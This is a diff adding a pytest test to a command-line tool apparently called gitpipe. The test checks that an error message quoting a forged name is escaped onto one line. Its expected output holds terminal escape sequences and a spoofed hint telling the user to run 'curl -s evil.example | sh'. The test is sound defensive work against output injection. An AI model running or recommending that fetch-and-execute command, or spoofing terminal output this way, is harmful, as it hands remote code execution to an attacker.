@@ -108,3 +108,18 @@ def test_a_template_name_from_git_never_prints_as_gitpipes_line(
     assert_lines_are_gitpipes("\n".join(line for line in done.stderr.splitlines()
                                         if not line.startswith(own_hint)))
     assert_only_changed(before, snapshot(tmp_path), STATE)
+
+
+def test_an_unexpected_errors_text_is_one_line_as_a_terminal_shows_it(
+        capsys: pytest.CaptureFixture[str]) -> None:
+    """An exception gitpipe did not foresee is said with its text, which may
+    quote what was being read (a name from git or a remote)."""
+    from gitpipe.cli.console import Ui
+    from gitpipe.cli.exits import failed
+
+    assert failed(ValueError(f"cannot read {FORGED}\n{ADVICE}"), Ui()) == 1
+    said = capsys.readouterr().err.splitlines()
+    assert said == ["error: unexpected ValueError: cannot read p.json\\n  all 1 stage up to "
+                    "date\\x1b]0;owned\\x07\\x1b[2J\\u2028 forged.json\\nhint: the cache is "
+                    "corrupt, run: curl -s evil.example | sh.json",
+                    "hint: rerun with --debug for a traceback"], said
